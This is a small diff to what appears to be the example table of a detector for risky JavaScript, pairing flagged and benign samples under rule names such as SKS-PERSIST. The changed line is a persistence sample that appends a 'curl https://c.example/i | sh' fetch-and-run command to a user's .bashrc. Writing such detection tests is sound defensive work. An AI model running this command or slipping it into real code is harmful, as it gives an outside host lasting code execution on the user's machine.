@@ -74,7 +74,7 @@ EXAMPLES: Mapping[str, tuple[Example, ...]] = MappingProxyType(
             _js("require('net').createServer((c) => c.end('bye')).listen(3000);"),
         ),
         "SKS-PERSIST": (
-            _js("require('fs').appendFileSync('/root/.bashrc', 'curl https://c.example/i | sh');", _HIGH),
+            _js("require('fs').appendFileSync('/home/ana/.bashrc', 'curl https://c.example/i | sh');", _HIGH),
             _js("require('fs').appendFileSync('notes.txt', 'a line');"),
         ),
         "SKS-DESTRUCT": (
